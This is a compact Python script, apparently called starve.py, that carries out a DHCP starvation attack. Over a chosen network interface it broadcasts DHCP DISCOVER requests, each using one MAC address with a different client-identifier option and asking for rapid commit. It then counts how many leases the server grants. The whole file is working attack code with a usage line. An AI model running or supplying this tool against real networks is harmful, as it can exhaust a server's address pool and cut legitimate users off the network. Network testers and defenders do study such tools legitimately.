"""Asks a DHCP server for as many leases as it takes, each for another client of the one MAC address (RFC 2132, 9.14),
and takes what is offered at once (RFC 4039). Says how often it got one.

    starve.py INTERFACE MAC HOW-MANY
"""

import socket
import struct
import sys

interface, mac, many = sys.argv[1], bytes.fromhex(sys.argv[2].replace(":", "")), int(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.bind(("0.0.0.0", 68))
for number in range(many):
    head = struct.pack(">BBBBIHH16s", 1, 1, 6, 0, number, 0, 0x8000, bytes(16))
    client = struct.pack(">BBBI", 61, 5, 0, number)
    options = b"\x63\x82\x53\x63" + b"\x35\x01\x01" + client + b"\x50\x00" + b"\xff"
    s.sendto(head + mac.ljust(16, b"\0") + bytes(192) + options, ("255.255.255.255", 67))
s.settimeout(1)
given = 0
try:
    while True:
        answer = s.recv(1500)
        if b"\x35\x01\x05" in answer[240:]:
            given += 1
except TimeoutError:
    print(given)
